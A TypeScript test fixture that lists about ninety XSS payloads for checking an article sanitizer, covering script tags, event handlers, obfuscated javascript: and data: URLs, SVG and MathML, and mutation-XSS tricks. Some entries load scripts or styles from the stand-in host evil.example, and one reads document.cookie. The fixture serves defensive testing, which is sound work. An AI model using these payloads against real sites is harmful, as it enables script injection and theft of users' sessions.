/**
 * XSS payloads an article body must not carry into a page: drawn from the OWASP XSS Filter Evasion
 * Cheat Sheet's categories, the mutation-XSS (mXSS) papers and sanitizer bypasses reported over the
 * years. Shared by the sanitizer's unit test, the articles API test and the Chromium e2e (which
 * renders each one on the public page and checks no dialog opens and no script runs), so every
 * payload calls `alert`/`confirm`/`prompt` or loads a URL a test can watch for.
 */
export type XssPayload = { name: string; html: string };

const tags = ['p', 'h2', 'a', 'img', 'strong', 'li', 'blockquote', 'pre', 'code', 'td', 'figure', 'table'];
const events = [
  'onclick',
  'onmouseover',
  'onerror',
  'onload',
  'onfocus',
  'onanimationstart',
  'ONPOINTERENTER',
];

/** An event handler on every tag the allow-list keeps (the handlers must go, the tags may stay). */
const eventHandlerPayloads: XssPayload[] = tags.map((tag, index) => {
  const event = events[index % events.length];
  const src = tag === 'img' ? ' src="https://example.com/x.png"' : '';
  return {
    name: `${event} on <${tag}>`,
    html: `<${tag}${src} ${event}="alert(1)" tabindex="1" autofocus>text</${tag}>`,
  };
});

export const XSS_PAYLOADS: readonly XssPayload[] = [
  // ---- script tags, every spelling ----
  { name: 'script tag', html: '<script>alert(1)</script>' },
  { name: 'script tag in upper case', html: '<SCRIPT>alert(1)</SCRIPT>' },
  { name: 'script tag in mixed case with src', html: '<ScRiPt SrC=https://evil.example/x.js></sCrIpT>' },
  {
    name: 'script with a slash before the attribute',
    html: '<script/xss src="https://evil.example/x.js"></script>',
  },
  { name: 'script opened twice', html: '<<script>alert(1);//<</script>' },
  { name: 'script never closed', html: '<script src=//evil.example/x.js?<b>' },
  { name: 'script split by a removed tag', html: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  {
    name: 'script inside a paragraph',
    html: '<p>hello<script>document.write("<img src=x onerror=alert(1)>")</script></p>',
  },
  // ---- event handlers ----
  ...eventHandlerPayloads,
  { name: 'img onerror with no quotes', html: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror with a slash separator', html: '<img/src="x"/onerror=alert(1)>' },
  { name: 'img onerror behind a grave accent', html: '<img src=`x` onerror=alert(1)>' },
  { name: 'body onload', html: '<body onload=alert(1)>' },
  { name: 'unclosed img with onerror', html: '<img src=x onerror="alert(1)"' },
  { name: 'malformed a tag with onmouseover', html: '<a onmouseover="alert(document.cookie)">xxs link</a>' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)>' },
  { name: 'input autofocus onfocus', html: '<input autofocus onfocus=alert(1)>' },
  { name: 'video source onerror', html: '<video><source onerror="alert(1)"></video>' },
  { name: 'audio src onerror', html: '<audio src=x onerror=alert(1)>' },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>x</marquee>' },
  // ---- javascript:, vbscript:, data: URLs, obfuscated ----
  { name: 'javascript: link', html: '<a href="javascript:alert(1)">x</a>' },
  { name: 'JaVaScRiPt: link', html: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'javascript: with a tab', html: '<a href="jav\tascript:alert(1)">x</a>' },
  { name: 'javascript: with an encoded tab', html: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: 'javascript: with an encoded newline', html: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
  { name: 'javascript: with a carriage return', html: '<a href="jav&#x0D;ascript:alert(1)">x</a>' },
  { name: 'javascript: with named tab and colon', html: '<a href="java&Tab;script&colon;alert(1)">x</a>' },
  {
    name: 'javascript: as decimal entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  },
  {
    name: 'javascript: as long decimal entities without semicolons',
    html: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  },
  {
    name: 'javascript: as hex entities without semicolons',
    html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  },
  {
    name: 'javascript: behind spaces and a control character',
    html: '<a href=" &#14;  javascript:alert(1)">x</a>',
  },
  { name: 'javascript: behind a NUL', html: '<a href="\u0000javascript:alert(1)">x</a>' },
  { name: 'javascript: in img src', html: '<img src="javascript:alert(1)">' },
  {
    name: 'javascript: in img src without quotes',
    html: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  },
  { name: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">x</a>' },
  {
    name: 'data: text/html link',
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  { name: 'data: image in img src', html: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="pixel">' },
  { name: 'data: svg in img src', html: '<img src="data:image/svg+xml,<svg onload=alert(1)>">' },
  { name: 'javascript: in blockquote cite', html: '<blockquote cite="javascript:alert(1)">q</blockquote>' },
  { name: 'protocol-relative script host link', html: '<a href="//evil.example/">x</a>' },
  // ---- SVG and MathML ----
  { name: 'svg onload', html: '<svg onload=alert(1)>' },
  { name: 'svg with a script', html: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg a with xlink:href',
    html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  },
  {
    name: 'svg animate setting an href',
    html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
  },
  {
    name: 'svg foreignObject',
    html: '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  },
  {
    name: 'MathML link',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  },
  {
    name: 'MathML mglyph style mXSS',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  },
  { name: 'MathML mtext a href', html: '<math href="javascript:alert(1)">click</math>' },
  // ---- style ----
  { name: 'style tag', html: '<style>@import "https://evil.example/x.css";</style>' },
  { name: 'style with expression()', html: '<p style="width: expression(alert(1))">x</p>' },
  { name: 'style url(javascript:)', html: '<p style="background:url(javascript:alert(1))">x</p>' },
  {
    name: 'style behaviour binding',
    html: '<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>',
  },
  { name: 'style tag hiding an img', html: '<style><img src=x onerror=alert(1)></style>' },
  { name: 'link stylesheet', html: '<link rel="stylesheet" href="javascript:alert(1)">' },
  // ---- frames, objects, base, meta, forms ----
  { name: 'iframe javascript:', html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  { name: 'frameset', html: '<frameset><frame src="javascript:alert(1)"></frameset>' },
  { name: 'object data', html: '<object data="javascript:alert(1)"></object>' },
  {
    name: 'object with a param',
    html: '<object type="text/x-scriptlet" data="https://evil.example/x.sct"><param name="x" value="y"></object>',
  },
  { name: 'embed', html: '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">' },
  { name: 'base href', html: '<base href="javascript:alert(1)//">' },
  { name: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  {
    name: 'meta refresh to data:',
    html: '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  },
  { name: 'form action', html: '<form action="javascript:alert(1)"><input type="submit"></form>' },
  { name: 'button formaction', html: '<form><button formaction="javascript:alert(1)">x</button></form>' },
  { name: 'isindex action', html: '<isindex action="javascript:alert(1)" type=image>' },
  // ---- template, noscript, comments, unclosed tags, mXSS ----
  { name: 'template content', html: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'noscript title mXSS', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  {
    name: 'noembed closing inside an attribute',
    html: '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  },
  {
    name: 'xmp closing inside an attribute',
    html: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  },
  {
    name: 'textarea closing inside an attribute',
    html: '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  },
  {
    name: 'title closing inside an attribute',
    html: '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  },
  { name: 'comment hiding a script', html: '<!--<script>alert(1)</script>-->' },
  { name: 'comment closing early', html: '<!-- --!><img src=x onerror=alert(1)> -->' },
  { name: 'conditional comment', html: '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->' },
  { name: 'CDATA in html', html: '<![CDATA[<img src=x onerror=alert(1)>]]>' },
  { name: 'unclosed tag swallowing the next', html: '<img src="x" alt="<p onclick=alert(1)>' },
  { name: 'attribute with a quote inside', html: '<a title=\'" onmouseover="alert(1)\'>x</a>' },
  {
    name: 'nested a tags mXSS',
    html: '<a href="https://example.com"><a href="javascript:alert(1)">x</a></a>',
  },
  { name: 'form in table mXSS', html: '<table><form><img src=x onerror=alert(1)></form></table>' },
  { name: 'select with style mXSS', html: '<select><style><img src=x onerror=alert(1)></style></select>' },
  {
    name: 'namespace confusion svg p style',
    html: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  },
  { name: 'plaintext', html: '<plaintext><img src=x onerror=alert(1)>' },
  {
    name: 'a href with entity-encoded scheme inside code',
    html: '<code><a href="&#x6a;avascript:alert(1)">x</a></code>',
  },
];
